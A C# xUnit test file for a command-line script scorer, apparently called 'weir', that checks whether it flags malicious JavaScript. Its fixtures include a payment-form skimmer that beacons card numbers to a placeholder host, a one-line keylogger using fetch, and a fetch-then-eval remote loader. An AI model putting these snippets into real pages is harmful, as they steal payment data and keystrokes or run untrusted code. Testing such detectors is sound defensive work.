using Shouldly;
using Weir.Cli;
using Weir.Cli.Shell;
using Weir.Scripts;
using Xunit;

namespace Weir.Tests.Cli;

/// <summary><c>weir score script</c> on files that are scripts.</summary>
public sealed class ScoreScriptTests : IDisposable
{
    private const string Skimmer = "document.getElementById(\"payment-form\").addEventListener(\"submit\", function () {\n  var n = document.querySelector(\"#cc_number\").value;\n  new Image().src = \"https://cdn-img.example/p.gif?d=\" + btoa(n);\n});\n";

    private readonly string _folder = Directory.CreateTempSubdirectory("weir-score-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public async Task Score_Files_SaysOfEachWhatWasFoundAndWhere()
    {
        string skimmer = Write("shop.js", Skimmer), harmless = Write("menu.js", "document.querySelector('.menu').addEventListener('click', function (event) { event.target.classList.toggle('open'); });"), verdicts = Path.Combine(_folder, "verdicts.txt");

        var (code, error) = await RunAsync("score", "script", skimmer, harmless, "--output", verdicts);

        code.ShouldBe(ExitCode.Ok, error);
        string[] lines = await File.ReadAllLinesAsync(verdicts, TestContext.Current.CancellationToken);
        lines[0].ShouldMatch("shop\\.js: (High|Critical), skimmer, [0-9]+ of 100$");
        lines[1].ShouldStartWith("  2:34  Reads #cc_number on submit");
        lines[^1].ShouldEndWith("menu.js: nothing found");
    }

    [Fact]
    public async Task Score_WhatIsNotJudged_IsSaidToBeSo()
    {
        string shorter = Write("key.js", "onkeyup=e=>fetch('//x/'+e.key)"), loader = Write("load.js", "fetch(u).then(r=>r.text()).then(eval)"), data = Write("data.js", "{}"), verdicts = Path.Combine(_folder, "verdicts.txt");

        var (code, error) = await RunAsync("score", "script", shorter, loader, data, "--output", verdicts);

        code.ShouldBe(ExitCode.Ok, error);
        string[] lines = await File.ReadAllLinesAsync(verdicts, TestContext.Current.CancellationToken);
        lines[0].ShouldEndWith("key.js: too short to judge: read it");
        lines[1].ShouldEndWith("load.js: obfuscated, not decided: a part of it could not be read");
        lines[2].ShouldBe("  1:33  Runs text that does not stand in the script (eval).");
        lines[^1].ShouldEndWith("data.js: not judged: data, nothing is called");
    }

    [Fact]
    public async Task Score_Rows_SayWhatAScoreIsWorth()
    {
        string rows = Write("rows.jsonl", "{\"code\":\"alert(1)\"}\n{\"code\":\"document.querySelector('.menu').addEventListener('click', function (event) { event.target.classList.toggle('open'); });\"}\n"), verdicts = Path.Combine(_folder, "verdicts.jsonl");

        var (code, error) = await RunAsync("score", "script", "--input", rows, "--output", verdicts);

        code.ShouldBe(ExitCode.Ok, error);
        string[] lines = await File.ReadAllLinesAsync(verdicts, TestContext.Current.CancellationToken);
        lines[0].ShouldContain("\"severity\":\"None\",\"state\":\"too_short\",\"classes\"");
        lines[1].ShouldContain("\"severity\":\"None\",\"state\":\"judged\",\"classes\"");
    }

    [Fact]
    public async Task Score_OneThatCannotBeRead_JudgesTheOthersAndFails()
    {
        string skimmer = Write("shop.js", Skimmer), verdicts = Path.Combine(_folder, "verdicts.txt");

        var (code, error) = await RunAsync("score", "script", Path.Combine(_folder, "none.js"), skimmer, "--output", verdicts);

        code.ShouldBe(ExitCode.Failure);
        error.ShouldContain("none.js cannot be read");
        (await File.ReadAllTextAsync(verdicts, TestContext.Current.CancellationToken)).ShouldMatch("(High|Critical), skimmer");
    }

    [Fact]
    public async Task Score_RowLongerThanWhatIsRead_SaysSo()
    {
        string rows = Write("rows.jsonl", $$"""{"code":"{{new string(';', ScriptClassifier.LongestScript + 1)}}"}""" + "\n" + """{"code":"alert(1)"}""" + "\n"), verdicts = Path.Combine(_folder, "verdicts.jsonl");

        (await RunAsync("score", "script", "--input", rows, "--output", verdicts)).Code.ShouldBe(ExitCode.Ok);

        string[] lines = await File.ReadAllLinesAsync(verdicts, TestContext.Current.CancellationToken);
        lines[0].ShouldContain("\"cut\":true");
        lines[1].ShouldNotContain("cut");
    }

    [Theory]
    [InlineData("unknown option '--fast' of 'weir score script'", "--fast")]
    [InlineData("name one of them", "shop.js", "--input", "rows.jsonl")]
    [InlineData("the output would replace", "shop.js", "--output", "shop.js")]
    public async Task Score_WhatDoesNotGoTogether_IsRefused(string why, params string[] arguments)
    {
        Write("shop.js", Skimmer);

        var (code, error) = await RunAsync(["score", "script", .. arguments.Select(argument => argument.EndsWith(".js", StringComparison.Ordinal) ? Path.Combine(_folder, argument) : argument)]);

        code.ShouldBe(ExitCode.Usage);
        error.ShouldContain(why);
    }

    private string Write(string name, string content)
    {
        string path = Path.Combine(_folder, name);
        File.WriteAllText(path, content);
        return path;
    }

    private static async Task<(int Code, string Error)> RunAsync(params string[] arguments)
    {
        using var output = new StringWriter();
        using var error = new StringWriter();
        int code = await CommandLine.RunAsync(arguments, output, error);
        return (code, error.ToString());
    }
}
